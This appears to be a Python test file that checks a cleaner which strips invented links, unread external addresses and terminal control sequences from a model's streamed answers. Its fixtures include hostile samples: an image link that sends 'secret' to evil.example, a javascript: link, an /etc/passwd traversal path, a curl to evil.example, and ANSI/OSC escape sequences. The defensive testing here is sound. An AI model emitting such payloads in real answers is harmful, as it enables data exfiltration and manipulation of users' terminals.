"""What of a model's words is shown: links that exist, no others, and nothing that steers a terminal."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gitkb.commands.answer.citations import Citations
from gitkb.commands.answer.clean_stream import Cleaner
from gitkb.commands.answer.page_reader import Pages
from gitkb.text.markdown.links import is_external, links
from tests.support.memory_tree import FilesTree

TREE = FilesTree(
    {
        "wiki/index.md": "# Knowledge base\n",
        "wiki/sources/docs/wal.md": "---\ntype: Source\ntitle: Write-ahead logging\n---\n\n# WAL\n\n## Flushing\n\nSee.\n",
        "wiki/sources/book.md": '---\ntitle: A book\n---\n\n<a name="page-1"></a>\n\nOne.\n\n<a name="page-2"></a>\n\nTwo.\n',
        "wiki/concepts/ü x.md": "# Ü x\n",
        "wiki/sources/book--picture-1.png": "PNG",
        "raw/book.pdf": "PDF",
    }
)
KNOWN = "https://example.org/manual"


def _citations() -> Citations:
    found = Citations(Pages(TREE))
    found.read(f"See {KNOWN}, or ask.")
    return found


def cleaned(text: str, size: int = 0) -> tuple[str, Citations]:
    citations = _citations()
    cleaner = Cleaner(citations)
    pieces = [text[at : at + size] for at in range(0, len(text), size)] if size else [text]
    return "".join([*(cleaner.feed(piece) for piece in pieces), cleaner.close()]), citations


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("It is so [Flushing](sources/docs/wal.md#flushing).", "It is so [Flushing](sources/docs/wal.md#flushing)."),
        ("[p. 2](sources/book.md#page-2)", "[p. 2](sources/book.md#page-2)"),
        ("[p. 2](wiki/sources/book.md#page-2)", "[p. 2](sources/book.md#page-2)"),
        ("[p. 2](../sources/book.md#page-2)", "[p. 2](sources/book.md#page-2)"),
        ("[p. 2](/wiki/sources/book.md#page-2)", "[p. 2](sources/book.md#page-2)"),
        ("[it](sources/book)", "[it](sources/book.md)"),
        ("[Ü](<concepts/ü x.md>)", "[Ü](concepts/ü%20x.md)"),
        ("[Ü](concepts/%C3%BC%20x.md)", "[Ü](concepts/ü%20x.md)"),
        ('[it](sources/book.md "A title")', "[it](sources/book.md)"),
        ("[[sources/book|the book]] says", "[the book](sources/book.md) says"),
        ("![a picture](sources/book--picture-1.png)", "![a picture](sources/book--picture-1.png)"),
        ("It is [text [in](x) brackets], not a link.", "It is [text in brackets], not a link."),
    ],
)
def test_a_citation_that_exists_comes_through_as_seen_from_the_wiki(said: str, shown: str) -> None:
    assert cleaned(said)[0] == shown


@pytest.mark.parametrize(
    ("said", "shown", "removed"),
    [
        ("So it is [p. 9](sources/book.md#page-9).", "So it is.", ["sources/book.md#page-9"]),
        ("So it is ([p. 9](sources/book.md#page-9)).", "So it is.", ["sources/book.md#page-9"]),
        ("So [p. 9](sources/book.md#page-9) it is.", "So it is.", ["sources/book.md#page-9"]),
        ("The [old log](concepts/log.md) is gone.", "The old log is gone.", ["concepts/log.md"]),
        ("[raw](../raw/book.pdf)", "raw", ["../raw/book.pdf"]),
        ("[out](../../../etc/passwd)", "out", ["../../../etc/passwd"]),
        ("[[no such page]]", "no such page", ["no such page"]),
        ("![a](https://evil.example/?q=secret)", "a", ["https://evil.example/?q=secret"]),
        ("[run](javascript:alert(1))", "run", ["javascript:alert(1)"]),
        ("Go to https://evil.example/x?y.", "Go to (address left out).", ["https://evil.example/x?y"]),
        ("Go to <https://evil.example/>!", "Go to (address left out)!", ["https://evil.example/"]),
        ("Run `curl https://evil.example`.", "Run `curl (address left out)`.", ["https://evil.example"]),
        ("[https://evil.example](sources/book.md)", "[(address left out)](sources/book.md)", ["https://evil.example"]),
        ("[a]: https://evil.example\n[a] it", "a: (address left out)\n[a] it", ["https://evil.example"]),
        ("[a]: sources/none.md\n[b][a]", "a: sources/none.md\n[b][a]", []),
    ],
)
def test_what_does_not_exist_loses_its_link_and_is_counted(said: str, shown: str, removed: list[str]) -> None:
    text, citations = cleaned(said)
    assert (text, citations.removed) == (shown, removed)


def test_an_address_that_was_read_stays_and_is_no_link() -> None:
    text, citations = cleaned(f"See [the manual]({KNOWN}), {KNOWN} and <{KNOWN}>.")
    assert text == f"See the manual (`{KNOWN}`), `{KNOWN}` and `{KNOWN}`." and not citations.removed
    assert not list(links(text))


def test_code_stays_as_it_is() -> None:
    said = "Write `[a](b.md)`:\n\n```md\n[a](b.md) and [[c]]\n```\n\nand [a](b.md)."
    assert cleaned(said)[0] == "Write `[a](b.md)`:\n\n```md\n[a](b.md) and [[c]]\n```\n\nand a."


def test_a_backtick_that_closes_nowhere_hides_no_link() -> None:
    assert cleaned("A ` and [a](b.md)\n\nmore ` text")[0] == "A ` and a\n\nmore ` text"


def test_nothing_that_steers_a_terminal_comes_through() -> None:
    said = "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[2J\u202eturned\x00\x9b31m"
    text, _ = cleaned(said)
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or c == "\u202e" for c in text)


def test_a_false_link_is_never_shown_before_it_is_complete() -> None:
    citations = _citations()
    cleaner = Cleaner(citations)
    shown = ""
    for piece in ("As ", "[p", ". 9](sour", "ces/book.md#pa", "ge-9", ")", " says, "):
        shown += cleaner.feed(piece)
        assert "[" not in shown and "book" not in shown
    assert shown + cleaner.close() == "As says, "


def test_text_without_links_is_not_held_back() -> None:
    cleaner = Cleaner(_citations())
    assert cleaner.feed("One sentence is whole. Another is not y") == "One sentence is whole. Another is not"


PIECES = st.sampled_from(
    (
        *"[ ] ( ) ]( ! ` < > : \\ a | - 1. [^1]: #page-2 #x [[ ]] www.evil.example javascript:x ~~~ é".split(),
        *(
            "p. 9",
            "sources/book.md",
            "https://evil.example/a",
            KNOWN,
            '"',
            "```\n",
            "\n",
            "\n\n",
            " ",
            "- ",
            "> ",
            "    ",
            "[a]: ",
        ),
    )
)


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join), st.integers(1, 7))
def test_cutting_it_into_other_pieces_changes_nothing(text: str, size: int) -> None:
    assert cleaned(text, size)[0] == cleaned(text)[0]


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_false_link_is_left_outside_code(text: str) -> None:
    citations = _citations()
    cleaner = Cleaner(citations, code=False)
    shown = cleaner.feed(text) + cleaner.close()
    assert "evil" not in shown.replace("(address left out)", "")
    for link in links(shown):
        assert not link.target or (link.target in citations.known if is_external(link.target) else citations.resolve(link.target))
